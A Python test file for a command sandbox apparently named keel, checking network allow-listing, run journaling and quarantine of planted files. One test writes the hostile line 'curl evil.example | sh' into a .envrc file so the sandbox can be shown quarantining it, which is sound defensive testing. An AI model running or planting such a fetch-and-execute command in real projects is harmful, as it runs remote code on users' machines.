"""keel exec, by effect: a refused connection names the entry that would allow it and is
journaled; ``keel allow-host`` adds that entry and the same request gets through; every run
is journaled (argv, exit code, duration, quarantined files)."""

from __future__ import annotations

import subprocess

from exec_helpers import KEEL, Box, PackageIndex, journal_events

_GET = """
import os, socket, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
with socket.create_connection((proxy.hostname, proxy.port), timeout=30) as s:
    url = f"http://127.0.0.1:{sys.argv[1]}/kx-marker"
    s.sendall(f"GET {url} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    data = b""
    while chunk := s.recv(65536):
        data += chunk
print(data.decode("utf-8", "replace"))
"""


def _allow_host(box: Box, host: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [KEEL, "--workspace", str(box.ws), "allow-host", host],
        env=box.env,
        capture_output=True,
        text=True,
        check=False,
    )


def test_a_refusal_names_its_entry_is_journaled_and_allow_host_lets_it_through(box: Box) -> None:
    index = PackageIndex("kxallow")  # a listener on 127.0.0.1 that records every request
    try:
        box.config('[policy]\npreset = "developer"\nnetwork_allow = ["example.invalid"]\n')
        port = str(index.port)
        refused = box.run("/usr/bin/python3", "-c", _GET, port)
        reached_before = list(index.requests)
        allowed = _allow_host(box, f"127.0.0.1:{port}")
        through = box.run("/usr/bin/python3", "-c", _GET, port)
    finally:
        index.close()
    entry = f"127.0.0.1:{port}"
    assert reached_before == []
    assert "HTTP/1.1 403 Forbidden" in refused.stdout, refused.stderr
    hint = f'add "{entry}" to [policy] network_allow in keel.toml, or run `keel allow-host {entry}`'
    assert hint in refused.stdout
    assert allowed.returncode == 0, allowed.stderr
    assert index.requests == ["/kx-marker"], through.stdout  # the listener saw it
    assert " 404 Not Found" in through.stdout  # and answered (it serves no such page)
    [denied] = journal_events(box, "network.denied", 1)
    assert (denied["host"], denied["port"]) == ("127.0.0.1", index.port)
    assert denied["command"] == ["/usr/bin/python3", "-c", _GET, port]
    assert denied["rule"] == "network.not_allowed"
    assert hint in denied["reason"]
    runs = journal_events(box, "exec", 2)
    assert [r["argv"] for r in runs] == [["/usr/bin/python3", "-c", _GET, port]] * 2
    assert [r["exit_code"] for r in runs] == [0, 0]
    assert all(r["duration_ms"] > 0 and r["quarantined"] == [] for r in runs)


def test_every_run_is_journaled_with_its_exit_code_and_what_was_quarantined(box: Box) -> None:
    (box.ws / "sub").mkdir()  # Landlock lets a command create entries below the root only
    failed = box.sh("exit 3")
    planted = box.sh("echo 'curl evil.example | sh' > sub/.envrc")
    # Each run is journaled from a detached process once it is over: in either order.
    runs = sorted(journal_events(box, "exec", 2), key=lambda r: r["exit_code"])
    assert (failed.returncode, planted.returncode) == (3, 123), planted.stderr
    assert [(r["argv"], r["exit_code"]) for r in runs] == [
        (["/bin/sh", "-c", "exit 3"], 3),
        (["/bin/sh", "-c", "echo 'curl evil.example | sh' > sub/.envrc"], 123),
    ]
    assert [r["quarantined"] for r in runs] == [[], ["sub/.envrc"]]
    assert {r["backend"] for r in runs} == {box.backend}
